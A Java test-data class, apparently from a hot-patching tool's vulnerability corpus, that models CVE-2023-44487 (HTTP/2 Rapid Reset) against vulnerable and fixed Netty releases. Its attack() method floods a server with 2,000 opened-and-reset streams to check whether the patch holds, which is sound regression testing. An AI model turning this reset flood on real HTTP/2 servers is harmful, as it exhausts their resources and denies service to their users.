package dev.hotpatch.testdata.cve;

import dev.hotpatch.testdata.corpus.MavenArtifact;
import java.io.IOException;
import java.util.List;

/** A client opens streams and resets them at once, for ever: much work for the server, little for the client. */
public final class NettyRapidReset implements Vulnerability {
    /** Several times what the fixed release takes in its time window. */
    private static final int RESETS = 2_000;

    @Override
    public String cve() {
        return "CVE-2023-44487";
    }

    @Override
    public VictimProgram program() {
        List<String> others = List.of(
                "netty-common",
                "netty-buffer",
                "netty-transport",
                "netty-resolver",
                "netty-codec",
                "netty-handler",
                "netty-codec-http",
                "netty-transport-native-unix-common");
        return new VictimProgram(
                "Http2Main",
                MavenArtifact.jar("io.netty", "netty-codec-http2", "4.1.99.Final"),
                MavenArtifact.jar("io.netty", "netty-codec-http2", "4.1.100.Final"),
                others.stream()
                        .map(name -> MavenArtifact.jar("io.netty", name, "4.1.99.Final"))
                        .toList(),
                List.of());
    }

    @Override
    public Attempt attack(RunningVictim victim) throws IOException {
        try (Http2Connection connection = Http2Connection.open(victim.port())) {
            for (int i = 0; i < RESETS; i++) {
                connection.requestAndReset();
            }
            connection.ping();
            return connection
                    .awaitGoAwayOrPong()
                    .map(error -> new Attempt(false, "GOAWAY, error " + error))
                    .orElseGet(() -> new Attempt(true, RESETS + " resets taken, then the ping was answered"));
        }
    }

    @Override
    public String use(RunningVictim victim) throws IOException {
        try (Http2Connection connection = Http2Connection.open(victim.port())) {
            return connection.request();
        }
    }
}
